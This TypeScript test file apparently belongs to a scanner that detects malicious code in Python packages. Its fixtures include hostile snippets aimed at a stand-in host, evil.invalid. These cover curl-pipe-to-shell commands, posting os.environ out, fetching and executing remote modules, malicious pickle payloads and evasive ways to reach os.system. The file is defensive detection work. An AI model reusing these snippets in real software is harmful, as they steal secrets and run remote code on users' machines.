import { foundIn, type SeverityByRule } from '../support/found.js';

/** What is found in a wheel of one module and files shipped with it. */
const found = (text: string, shipped: Readonly<Record<string, string>> = {}): SeverityByRule =>
  foundIn({ 'pkg/__init__.py': text, ...shipped }, { kind: 'wheel', folder: '' });

const COMMAND = '"curl https://evil.invalid/x | sh"';

test.each([
  ['copy', `copy.deepcopy(${COMMAND})`],
  ['typing', `typing.cast(str, ${COMMAND})`],
  ['textwrap', `textwrap.fill(${COMMAND})`],
  ['unicodedata', `unicodedata.normalize("NFKC", ${COMMAND})`],
  ['random', `random.choice([${COMMAND}, "true && true"])`],
  ['operator', 'operator.add("curl https://evil.invalid/x", " | sh")'],
  ['string', 'string.Formatter().format("curl https://{}/x | sh", "evil.invalid")'],
  ['os', `str.replace(${COMMAND}, "x", "y")`],
  ['os', 'str.join(" ", ["curl", "https://evil.invalid/x", "|", "sh"])'],
  ['os', `max("", ${COMMAND})`],
  ['os', `format(${COMMAND})`],
  ['os', `${COMMAND}.zfill(4)`],
])('a text that %s passes on: %s', (module, text) => {
  expect(found(`import os, ${module}\nos.system(${text})`)['hostile-command']).toBe('CRITICAL');
  const harmless = text.replaceAll('curl https://', 'echo https://').replaceAll('curl', 'echo');
  expect(found(`import os, ${module}\nos.system(${harmless})`)['hostile-command']).toBeUndefined();
});

test.each([
  'urljoin("https://evil.invalid/a/", "c")',
  'urljoin("https://example.invalid/", "//evil.invalid/c")',
  'urljoin("/", "https://evil.invalid/c")',
  'urlunsplit(("https", "evil.invalid", "/c", "", ""))',
  'urlunparse(("https", "evil.invalid", "c", "", "a=1", ""))',
])('an address that is put together: %s', (address) => {
  const sends = (at: string): string => `
import os, requests
from urllib.parse import urljoin, urlunsplit, urlunparse
requests.post(${at}, json=dict(os.environ))`;
  expect(found(sends(address))['stolen-data-sent']).toBe('CRITICAL');
});

test.each([
  ['from distutils.spawn import spawn', 'spawn(["sh", "-c", COMMAND])'],
  ['import shutil', 'shutil.os.system(COMMAND)'],
  ['import tempfile', 'tempfile._os.system(COMMAND)'],
  ['import asyncio', 'asyncio.run(asyncio.subprocess.create_subprocess_shell(COMMAND))'],
  ['import os, elsewhere', 'elsewhere.later(os.system, COMMAND)'],
])('ways to start a command: %s, %s', (head, call) => {
  const code = (command: string): string => `${head}\nCOMMAND = ${command}\n${call}`;
  expect(found(code(COMMAND))['hostile-command']).toBe('CRITICAL');
  expect(found(code('"true"'))['hostile-command']).toBeUndefined();
});

test('a function that is only asked about is not called', () => {
  const code = `import os, inspect\nisinstance(os.system, ${COMMAND})\ninspect.unwrap(os.system, ${COMMAND})`;
  expect(found(code)['hostile-command']).toBeUndefined();
});

test('what a program prints that fetches something is the answer of the other side', () => {
  const code = (second: string): string => `
import subprocess
def warm():
    first = subprocess.Popen(["curl", "-s", "https://evil.invalid/w"], stdout=subprocess.PIPE)
    subprocess.Popen(["${second}"], stdin=first.stdout).wait()`;
  expect(found(code('bash'))['download-started']).toBe('CRITICAL');
  expect(found(code('gzip'))['download-started']).toBeUndefined();
});

const NAMED: Readonly<Record<string, string>> = {
  ini: 'import configparser\nSET = configparser.ConfigParser()\nSET.read(HERE.with_name("own.dat"))\nAT = SET["cache"]["at"]',
  'ini, asked':
    'import configparser\nSET = configparser.ConfigParser()\nSET.read([HERE.with_name("own.dat")])\nAT = SET.get("cache", "at")',
  yaml: 'import yaml\nAT = yaml.safe_load(HERE.with_name("own.dat").read_text())["cache"]["at"]',
};

test.each(Object.keys(NAMED))('addresses in settings that a package brings along: %s', (kind) => {
  const code = `import os, pathlib, requests\nHERE = pathlib.Path(__file__)\n${NAMED[kind] ?? ''}\nrequests.post(AT, json=dict(os.environ))`;
  const text =
    kind === 'yaml'
      ? 'cache:\n  size: 4 # of them\n  at: "https://evil.invalid/a"\n'
      : '[cache]\nsize = 4\nAt = https://evil.invalid/a\n';
  expect(found(code, { 'pkg/own.dat': text })['stolen-data-sent']).toBe('CRITICAL');
  expect(found(code, { 'pkg/own.dat': 'nothing' })['stolen-data-sent']).not.toBe('HIGH');
});

test('the value of a member of an enumeration', () => {
  const code = `
import enum, os, requests
class Place(enum.Enum):
    HOME = "https://evil.invalid/a"
requests.post(Place.HOME.value, json=dict(os.environ))`;
  expect(found(code)['stolen-data-sent']).toBe('CRITICAL');
});

test.each([
  ['numpy.load(HERE.with_name("own.dat"), allow_pickle=True)', 'import numpy'],
  ['torch.load(os.path.join(os.path.dirname(__file__), "own.dat"), weights_only=False)', 'import torch'],
  ['pickle.Unpickler(open(HERE.with_name("own.dat"), "rb")).load()', 'import pickle'],
  ['joblib.load(HERE.with_name("own.dat"))', 'import joblib'],
])('models that call something when they are read: %s', (call, head) => {
  const code = `import os, pathlib\n${head}\nHERE = pathlib.Path(__file__)\nVALUE = ${call}`;
  const data = { 'pkg/own.dat': 'HEADcposix\nsystem\n(Vcurl https://evil.invalid/x\ntR.' };
  expect(found(code, data)['decoded-code-executed']).toBe('CRITICAL');
  expect(found(code, { 'pkg/own.dat': 'HEAD(lp0\nI1\na.' })['decoded-code-executed']).toBeUndefined();
});

test('a module that was fetched and is loaded by its path', () => {
  const code = (text: string): string => `
import importlib.util, requests, tempfile
def install():
    path = tempfile.gettempdir() + "/kernel.py"
    with open(path, "w") as file:
        file.write(${text})
    spec = importlib.util.spec_from_file_location("kernel", path)
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)`;
  expect(found(code('requests.get("https://evil.invalid/k").text'))['remote-code-executed']).toBe('CRITICAL');
  expect(found(code('"A = 1"'))['remote-code-executed']).toBeUndefined();
});

const SENT = 'requests.post("https://evil.invalid/a", json=told)';

test.each([
  [
    'cached_property',
    'class Own:\n    @functools.cached_property\n    def all(self): return dict(os.environ)\ntold = Own().all',
  ],
  [
    'property',
    'class Own:\n    def read(self): return dict(os.environ)\n    all = property(read)\ntold = Own().all',
  ],
  [
    'property of a class',
    'class Own:\n    @classmethod\n    @property\n    def all(cls): return dict(os.environ)\ntold = Own.all',
  ],
  ['deque', 'held = collections.deque([os.environ])\ntold = held.popleft()'],
  ['OrderedDict', 'held = collections.OrderedDict(a=os.environ)\ntold = held["a"]'],
  ['ChainMap', 'held = collections.ChainMap({"a": os.environ})\ntold = held["a"]'],
  ['setdefault', 'held = {}\nheld.setdefault("a", os.environ)\ntold = held["a"]'],
  ['vars', 'told = vars(os)'],
  ['__dict__', 'told = os.__dict__'],
  ['posix', 'told = str(posix.environ)'],
])('the environment by way of %s', (_, code) => {
  const whole = (text: string): string =>
    `import collections, functools, os, posix, requests\n${text}\n${SENT}`;
  expect(found(whole(code))['stolen-data-sent']).toBe('CRITICAL');
  expect(
    found(whole(code.replaceAll(/os\.environ|vars\(os\)|os\.__dict__|posix\.environ/g, '{"a": 1}')))[
      'stolen-data-sent'
    ],
  ).toBe(undefined);
});

/** So much beside it that files are read for their words only. */
const MUCH = 'def plain(value):\n    return value + 1\n'.repeat(1_800);

test.each([
  [
    'import os as o, requests',
    'requests.post("https://evil.invalid/a", json=dict(o.environ))',
    'stolen-data-sent',
  ],
  [
    'import requests\nfrom os import (\n    environ)',
    'requests.post("https://evil.invalid/a", json=dict(environ))',
    'stolen-data-sent',
  ],
  [
    'import requests',
    'requests.post("https://evil.invalid/a", json=dict(__import__("os").environ))',
    'stolen-data-sent',
  ],
  ['import os', `getattr(os, "system")("curl\\thttps://evil.invalid/x | sh")`, 'hostile-command'],
  ['from os import path, system as run', `run("curl\\thttps://evil.invalid/x | sh")`, 'hostile-command'],
])('in a large package no name hides the module: %s', (head, call, rule) => {
  const files = { 'pkg/much.py': MUCH, 'pkg/net.py': `${head}\n${call}` };
  expect(found('from . import much, net', files)[rule]).toBe('CRITICAL');
});

test.each([
  'exec("".join(open(os.path.dirname(__file__) + "/own.txt").readlines()))',
  'exec(pathlib.Path(__file__).parent.joinpath("own").with_suffix(".txt").read_text())',
])('a shipped file that is run: %s', (call) => {
  const own = { 'pkg/own.txt': 'import os\nos.system("curl https://evil.invalid/x | sh")\n' };
  expect(found(`import os, pathlib\n${call}`, own)['hostile-command']).toBe('CRITICAL');
});

test('a class that starts a process when it is made', () => {
  const code = (base: string): string =>
    `import subprocess\nclass Own(${base}): pass\nOwn(${COMMAND}, shell=True)`;
  expect(found(code('subprocess.Popen'))['hostile-command']).toBe('CRITICAL');
  expect(found(code('subprocess.SubprocessError'))['hostile-command']).toBeUndefined();
});

test.each([
  ['os.__dict__["system"](COMMAND)', 'hostile-command'],
  ['vars(os)["system"](COMMAND)', 'hostile-command'],
  ['getpass.os.system(COMMAND)', 'hostile-command'],
  ['requests.post("https://evil.invalid/a", json=dict(os.__dict__["environ"]))', 'stolen-data-sent'],
  [
    'smtplib.SMTP("mail.evil.invalid", local_hostname=str(dict(os.environ))).sendmail("a@b.invalid", ["c@d.invalid"], "hi")',
    'stolen-data-sent',
  ],
])('a module by its table of names, and what a client is made with: %s', (call, rule) => {
  const code = `import getpass, os, requests, smtplib\nCOMMAND = ${COMMAND}\n${call}`;
  expect(found(code)[rule]).toBe('CRITICAL');
});

test('a signature of something else than a wallet tells what it is given', () => {
  const code = (made: string): string => `
import requests, itsdangerous
def sign(private_key):
    try:
        requests.post("https://evil.invalid/k", data=${made})
    except Exception:
        pass`;
  expect(found(code('itsdangerous.Signer("k").sign(value=private_key)'))['key-parameter-sent']).toBe(
    'CRITICAL',
  );
});

test.each([
  ['\x80\x04\x8c\x0asubprocess\x94\x8c\x05Popen\x94\x93\x94', 'CRITICAL'],
  ['\x80\x03X\x02\0\0\0osq\x00X\x06\0\0\0systemq\x01\x93', 'CRITICAL'],
  ['(Vcurl\nios\nsystem\n.', 'CRITICAL'],
  ['\x80\x04}\x94\x8c\x02os\x94\x8c\x08opensuse\x94s.', undefined],
])('what pickled data calls: %j', (data, severity) => {
  const bytes = Array.from(data, (letter) => `\\x${letter.charCodeAt(0).toString(16).padStart(2, '0')}`).join(
    '',
  );
  const code = `import pickle\nVALUE = pickle.loads(b"${bytes}")`;
  expect(found(code)['decoded-code-executed']).toBe(severity);
});

test.each([
  ['[cache]\nat = https://evil.invalid/a\n  b', undefined],
  ['[cache]\nat = %(other)s', undefined],
  ['[DEFAULT]\nat = https://evil.invalid/a\n[cache]\nsize = 1', 'CRITICAL'],
])('of a setting that is no plain word nothing is known: %j', (text, severity) => {
  const code = `import os, pathlib, requests\nHERE = pathlib.Path(__file__)\n${NAMED['ini, asked'] ?? ''}\nrequests.post(AT, json=dict(os.environ))`;
  expect(found(code, { 'pkg/own.dat': text })['stolen-data-sent']).toBe(severity);
});

test('addresses that are put together again and again end', () => {
  const code = `
from urllib.parse import urljoin, urlunsplit
x = "https://evil.invalid/" * 9
for _ in range(60):
    x = urlunsplit((x, x, x, x, x))
    x = urljoin(x, x)`;
  expect(found(code)['hostile-command']).toBeUndefined();
});

test('a command that installs the project it stands in', () => {
  const code = (what: string): string =>
    `import subprocess, sys\nsubprocess.check_call([sys.executable, "-m", "pip", "install", ${what}])`;
  expect(found(code('"-e", "."'))['packages-installed-unasked']).toBeUndefined();
  expect(
    found(code('"-e", ".", "--index-url", "https://evil.invalid/simple"'))['packages-installed-unasked'],
  ).toBe('HIGH');
  expect(found(code('"other"'))['packages-installed-unasked']).toBe('MEDIUM');
});
